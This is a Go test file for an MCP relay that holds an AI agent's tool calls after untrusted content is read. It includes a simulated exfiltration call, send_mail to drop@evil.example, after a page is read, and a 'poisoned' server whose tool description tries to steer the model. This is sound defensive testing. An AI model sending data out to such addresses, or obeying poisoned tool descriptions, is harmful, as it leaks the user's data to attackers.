package pipe_test

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tidemark/tidemark/internal/mcp/judge"
	"github.com/tidemark/tidemark/internal/mcp/pipe"
	"github.com/tidemark/tidemark/internal/test/mcptest"
)

func TestMain(m *testing.M) {
	mcptest.Main()
	os.Exit(m.Run())
}

// agent is the process that starts servers.
type agent struct {
	testing.TB
	port judge.Port
	env  map[string]string
	// patience is how long a held call waits.
	patience time.Duration
	pins     judge.Pins // nil: everything is accepted
	// serverEnv is what servers get; nil: the usual.
	serverEnv []string
	now       func() time.Time // nil: the time it is
}

// text is written by one side and read by the test.
type text struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (t *text) Write(b []byte) (int, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.b.Write(b)
}

func (t *text) String() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.b.String()
}

// running is a relay that was started.
type running struct {
	in     io.WriteCloser
	out    io.ReadCloser
	errOut *text
	ended  chan int
}

// start runs a relay before a server.
func (a *agent) start(name string, command []string) *running {
	a.Helper()
	if a.pins == nil {
		a.pins = mcptest.AcceptAll{}
	}
	conn, err := judge.New(judge.Options{
		Server: judge.Server{Name: name, Command: command}, Port: a.port, Pins: a.pins, Elicit: true, Patience: a.patience, Now: a.now,
		Origin: judge.Origin{Env: func(n string) string { return a.env[n] }, Session: "1-" + a.Name(), Owner: true},
		Logger: slog.New(slog.DiscardHandler),
	})
	if err != nil {
		a.Fatal(err)
	}
	env := a.serverEnv
	if env == nil {
		env = pipe.Env(os.Environ(), nil)
	}
	fromClient, in := io.Pipe()
	out, toClient := io.Pipe()
	r := &running{in: in, out: out, errOut: &text{}, ended: make(chan int, 1)}
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		code, err := pipe.Run(ctx, pipe.Options{
			Command: command, Env: env, Gate: conn, In: fromClient, Out: toClient, ErrOut: r.errOut, MaxMessage: 1 << 20,
		})
		if err != nil {
			code = -1
		}
		_ = toClient.Close()
		_ = fromClient.Close()
		r.ended <- code
	}()
	a.Cleanup(func() {
		cancel()
		_ = in.Close()
		_ = out.Close()
	})
	return r
}

// connect starts a relay before a real server and speaks to it as a real client.
func (a *agent) connect(name string, o *mcp.ClientOptions, command []string) *mcp.ClientSession {
	a.Helper()
	r := a.start(name, command)
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, o)
	session, err := client.Connect(a.Context(), &mcp.IOTransport{Reader: r.out, Writer: r.in}, nil)
	if err != nil {
		a.Fatalf("connect to %s: %v; %s", name, err, r.errOut)
	}
	a.Cleanup(func() { _ = session.Close() })
	if _, err := session.ListTools(a.Context(), nil); err != nil {
		a.Fatalf("list tools of %s: %v", name, err)
	}
	return session
}

func command(t testing.TB, name string, args ...string) []string {
	t.Helper()
	line, err := mcptest.Command(name, args...)
	if err != nil {
		t.Fatal(err)
	}
	return line
}

func call(t testing.TB, s *mcp.ClientSession, name string, args any) (string, bool) {
	t.Helper()
	res, err := s.CallTool(t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
	if err != nil {
		t.Fatalf("call %s: %v", name, err)
	}
	var b strings.Builder
	for _, c := range res.Content {
		if text, ok := c.(*mcp.TextContent); ok {
			b.WriteString(text.Text)
		}
	}
	return b.String(), res.IsError
}

func sent(t testing.TB, file string) string {
	t.Helper()
	raw, err := os.ReadFile(file)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return string(raw)
}

// eachPort runs a test with the engine in the same process, and with one that is reached over HTTP.
func eachPort(t *testing.T, policy string, test func(t *testing.T, w *mcptest.World, a *agent)) {
	t.Helper()
	for name, remote := range map[string]bool{"in the process": false, "over HTTP": true} {
		t.Run(name, func(t *testing.T) {
			w := mcptest.New(t, policy)
			a := &agent{TB: t, port: w.Engine, patience: time.Nanosecond}
			if remote {
				a.port = w.Remote()
			}
			test(t, w, a)
		})
	}
}

// A page that was read through one server, and a mail through another: two real processes under one agent.
// MCP-12, SEQ-03, SEQ-07
func TestTaintCrossesServers(t *testing.T) {
	eachPort(t, "", func(t *testing.T, w *mcptest.World, a *agent) {
		file := filepath.Join(t.TempDir(), "sent")
		pages := a.connect("pages", nil, command(t, "pages"))
		mail := a.connect("mail", nil, command(t, "mail", file))
		if text, failed := call(t, pages, "read_page", nil); failed || text != mcptest.Page {
			t.Fatalf("read: got %q, %v", text, failed)
		}
		text, failed := call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"})
		if !failed || !strings.Contains(text, "mail__send_mail") || !strings.Contains(text, "not known here") {
			t.Errorf("the mail: got %q, %v; want it held, and that the user's words are unknown", text, failed)
		}
		if got := sent(t, file); got != "" {
			t.Errorf("mail was sent to %q", got)
		}
		w.Approve(true)
		if text, failed := call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"}); failed {
			t.Errorf("the same call after approval: got %q", text)
		}
		if got := sent(t, file); got != "drop@evil.example\n" {
			t.Errorf("mail was sent to %q", got)
		}
	})
}

// A server that is listed and never called: what it says of its tool is what the model obeys.
// MCP-12
func TestADescriptionArguesThoughItsServerIsNeverCalled(t *testing.T) {
	eachPort(t, "", func(t *testing.T, _ *mcptest.World, a *agent) {
		file := filepath.Join(t.TempDir(), "sent")
		a.connect("poisoned", nil, command(t, "poisoned"))
		mail := a.connect("mail", nil, command(t, "mail", file))
		if text, failed := call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"}); !failed {
			t.Errorf("the mail: got %q, want it held", text)
		}
		if got := sent(t, file); got != "" {
			t.Errorf("mail was sent to %q", got)
		}
	})
}

// The harmless twin: nothing was read, so nobody but the owner can have asked.
// MCP-12, MCP-16
func TestACleanSessionIsNotAsked(t *testing.T) {
	eachPort(t, "", func(t *testing.T, _ *mcptest.World, a *agent) {
		file := filepath.Join(t.TempDir(), "sent")
		mail := a.connect("mail", nil, command(t, "mail", file))
		if text, failed := call(t, mail, "send_mail", map[string]any{"to": "bob@work.example", "body": "hi"}); failed {
			t.Errorf("got %q", text)
		}
		if got := sent(t, file); got != "bob@work.example\n" {
			t.Errorf("mail was sent to %q", got)
		}
	})
}

// MCP-10
func TestADeniedCallNeverReachesTheServer(t *testing.T) {
	eachPort(t, "rules:\n  - {name: no-mail, tools: [mail__send_mail], effect: deny}\n", func(t *testing.T, _ *mcptest.World, a *agent) {
		file := filepath.Join(t.TempDir(), "sent")
		mail := a.connect("mail", nil, command(t, "mail", file))
		text, failed := call(t, mail, "send_mail", map[string]any{"to": "bob@work.example", "body": "hi"})
		if !failed || !strings.Contains(text, "no-mail") || sent(t, file) != "" {
			t.Errorf("got %q, %v, sent %q", text, failed, sent(t, file))
		}
	})
}

// MCP-29
func TestAServerGetsNoSecretOfTheAgents(t *testing.T) {
	t.Setenv("ANTHROPIC_API_KEY", "sk-secret")
	t.Setenv("CLAUDE_CODE_MESSAGING_TOKEN", "secret")
	t.Setenv("TIDEMARK_DATA", "/secret")
	w := mcptest.New(t, "")
	a := &agent{TB: t, port: w.Engine}
	text, failed := call(t, a.connect("env", nil, command(t, "env")), "env", nil)
	if failed || strings.Contains(text, "secret") || !strings.Contains(text, "PATH=") {
		t.Errorf("got %q, %v", text, failed)
	}
}

func TestVariablesThatAreNamedArePassed(t *testing.T) {
	got := pipe.Env([]string{"HOME=/h", "LC_ALL=C", "API_KEY=k", "OTHER=o", "TIDEMARK_DATA=d", "=x", ""}, []string{"API_KEY", "TIDEMARK_DATA"})
	if want := "HOME=/h LC_ALL=C API_KEY=k"; strings.Join(got, " ") != want {
		t.Errorf("got %v, want %s", got, want)
	}
}
